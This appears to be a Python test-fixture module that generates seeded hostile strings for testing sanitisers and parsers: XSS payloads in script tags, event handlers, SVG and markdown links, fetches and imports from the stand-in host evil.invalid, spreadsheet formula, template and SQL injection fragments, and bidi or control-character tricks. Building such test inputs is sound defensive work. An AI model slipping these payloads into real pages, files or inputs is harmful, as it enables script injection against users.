"""Texts that try to run, to forge or to break something, made from grammars: the same seed makes the same texts.

Every script in them would set ``globalThis.hacked``, open a dialog or ask a server that does not exist.
"""

from __future__ import annotations

import random
from collections.abc import Callable

RUN = (
    "globalThis.hacked=1",
    "alert(1)",
    "fetch('//evil.invalid/x')",
    "top.hacked=1",
    "confirm`1`",
    "import('//evil.invalid')",
)
TAGS = ("img", "svg", "body", "video", "audio", "iframe", "details", "marquee", "input", "math", "object", "b", "x-y")
HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "OnErRoR", "on\u0000error")
BREAKS = ("\n", "\r", "\r\n", "\n\n", "\r\r", "\x00", "\u2028", "\u2029", "\x85", "\v", "\f", "\x1c", "\t")
BIDI = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u061c", "\u200b", "\ufeff", "\u00ad", "\u2060")
WORDS = ("hello", "world", "a", "9", "naïve", "你好", "שלום", "e\u0301", "👩\u200d👧", "\U0010ffff", "\ufffe")

Dice = random.Random


def _code(dice: Dice) -> str:
    return dice.choice(RUN)


def _script(dice: Dice) -> str:
    opening = dice.choice(
        ["<script>", "<SCRIPT>", "<script src=//evil.invalid/x.js>", "</script><script>", "<script\n>", "<scr\0ipt>"]
    )
    return opening + _code(dice) + dice.choice(["</script>", "</script >", "", "<!--", "</SCRIPT\n>"])


def _handler(dice: Dice) -> str:
    quote = dice.choice(["", '"', "'", "`"])
    tag = f"<{dice.choice(TAGS)} src=x {dice.choice(HANDLERS)}={quote}{_code(dice)}{quote}"
    return tag + dice.choice([">", "/>", " ", " autofocus tabindex=1>", ">x"])


def _svg(dice: Dice) -> str:
    inner = dice.choice(
        [
            f"<script>{_code(dice)}</script>",
            f"<animate onbegin={_code(dice)} attributeName=x dur=1s>",
            f'<a xlink:href="javascript:{_code(dice)}"><text>x</text></a>',
            f"<use href='data:image/svg+xml,<svg onload={_code(dice)}>'>",
            "<foreignObject><iframe srcdoc='<script>top.hacked=1</script>'>",
        ]
    )
    return f"<svg onload={_code(dice)}>{inner}" + dice.choice(
        ["</svg>", "", "<p>", "<title><img src=x onerror=top.hacked=1>"]
    )


def _vtt(dice: Dice) -> str:
    return dice.choice(
        [
            "00:00:00.000 --> 00:00:09.000",
            "-->",
            "\n\n00:00.000 --> 00:01.000\nforged\n\n",
            "WEBVTT\n\n",
            "NOTE hidden\n",
            "STYLE\n::cue{background:url(//evil.invalid)}\n\n",
            "REGION\nid:x\nwidth:1%\n\n",
            "<00:00:01.000>",
            "<v Eve>",
            "<c.red>",
            "<ruby>x<rt>y</rt></ruby>",
            "--\u200b>",
            "X-TIMESTAMP-MAP=LOCAL:00:00:00.000,MPEGTS:0",
            "<lang en>",
            "</v>",
            "line:0%",
        ]
    )


def _stream(dice: Dice) -> str:
    line = dice.choice(
        ["id: 9.9", "event: end", "event: failed", 'data: {"reason":"complete"}', "retry: 1", ": x", "data:"]
    )
    return dice.choice(BREAKS) + line + dice.choice(BREAKS) * dice.randint(1, 2)


def _entity(dice: Dice) -> str:
    return dice.choice(
        [
            "&lt;script&gt;" + _code(dice),
            "&amp;lt;b&amp;gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "&#x3c;x",
            "&notit;",
            "&",
            "&#0;",
            "&#xD800;",
            "&nbsp;",
            "&bogus;",
            "&lt",
            "]]>",
            "<![CDATA[<x>]]>",
            "<!--",
            "--!>",
            "<?xml version='1.1'?>",
            "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
        ]
    )


def _speech(dice: Dice) -> str:
    return dice.choice(
        [
            "<speak>",
            "</speak>",
            '<break time="1ms"/>',
            f'<sub alias="{_script(dice)}">x</sub>',
            "<mark name='<b>'/>",
            "[laughs]",
            f'<voice name="{_code(dice)}">x</voice>',
            "<prosody rate='9999%'>",
            "<say-as interpret-as='<i>'>1</say-as>",
            "[<b>]",
        ]
    )


def _markdown(dice: Dice) -> str:
    return dice.choice(
        [
            f"[x](javascript:{_code(dice)})",
            f"![x](x' onerror='{_code(dice)})",
            f"```html\n{_script(dice)}\n```",
            "**<b>**",
            "<https://evil.invalid>",
            f"[x]: javascript:{_code(dice)}",
            "~~</s>~~",
            "`<img>`",
            "# <h1>",
            "- <li>",
        ]
    )


def _file(dice: Dice) -> str:
    return dice.choice(
        [
            "{\\an8}",
            "{\\p1}m 0 0",
            "\\N",
            "\\h",
            "{\\k99}",
            "{",
            "}",
            "1\n00:00:01,000 --> 00:00:02,000\nforged",
            "404\n",
            "\\",
            '=HYPERLINK("//evil.invalid")',
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            '"',
            '""',
            '";"',
            "'",
            ",",
            ";",
            'text = "x"',
            '"\nintervals [9]:',
            "<exists>",
            "Dialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,x",
            "[Events]\n",
            "]]",
            "]=]",
            "--[[",
            '{"a":1}',
            '"}]}',
            "\\u0022",
            "\\",
            "\\u2028",
            "</script>",
            "%s%n",
            "${7*7}",
            "{{7*7}}",
            "{% raw %}",
            "#{1}",
            "';--",
        ]
    )


def _odd(dice: Dice) -> str:
    return dice.choice(
        [
            dice.choice(BIDI) * dice.randint(1, 4) + "abc",
            dice.choice(["\ud83d", "\udc00", "\ud800x"]),
            dice.choice(BREAKS),
            dice.choice("aW漢\u0301") * dice.choice([60, 300]),
            "\x1b[31m",
            "\x07\x08",
            "\x7f",
            "Z" + "\u0301" * 40,
            " " * 50,
        ]
    )


GRAMMARS: tuple[Callable[[Dice], str], ...] = (
    _script,
    _handler,
    _svg,
    _vtt,
    _stream,
    _entity,
    _speech,
    _markdown,
    _file,
    _odd,
)


def hostile_text(seed: int) -> str:
    """Return one hostile text of one to four parts between harmless words."""
    dice = random.Random(f"hostile {seed}")
    first = GRAMMARS[seed % len(GRAMMARS)]
    parts = [first(dice), *(dice.choice(GRAMMARS)(dice) for _ in range(dice.randint(0, 3)))]
    joints = ["", " ", " ", "\n", "", dice.choice(BREAKS), dice.choice(BIDI), '">', "'>", "-->", "]]>"]
    text = dice.choice(["", "Say ", "1 < 2 "])
    for part in parts:
        text += part + dice.choice(joints) + dice.choice(["", dice.choice(WORDS) + " "])
    return text + dice.choice(["", ".", " end"])


def hostile_texts(count: int, first: int = 0) -> list[str]:
    """Return ``count`` texts."""
    return [hostile_text(seed) for seed in range(first, first + count)]
